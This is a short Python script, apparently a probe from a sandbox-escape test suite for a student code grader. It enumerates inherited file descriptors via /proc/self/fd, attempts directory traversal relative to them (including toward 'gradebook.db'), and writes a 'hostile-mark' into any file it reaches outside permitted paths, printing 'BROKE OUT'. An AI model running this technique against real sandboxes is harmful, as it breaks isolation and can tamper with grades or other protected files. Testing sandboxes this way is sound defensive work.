# It writes through everything that it inherited, by number and through /proc.
# score: 7 = double + shift + table
# %% first
import fcntl
import os

for number in range(0, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    for folder in ("..", "../..", "../../../../../..", "gradebook.db"):
        try:
            print("BROKE OUT:", os.listdir(os.open(folder, os.O_RDONLY, dir_fd=number)))
        except OSError:
            pass
    if target.startswith("/") and not target.startswith(("/dev/null", "/home/student", "/tmp", "/memfd", "/dev/shm")):
        try:
            with open(f"/proc/self/fd/{number}", "w") as file:
                file.write("hostile-mark")
            print("BROKE OUT: wrote to", target)
        except OSError:
            pass
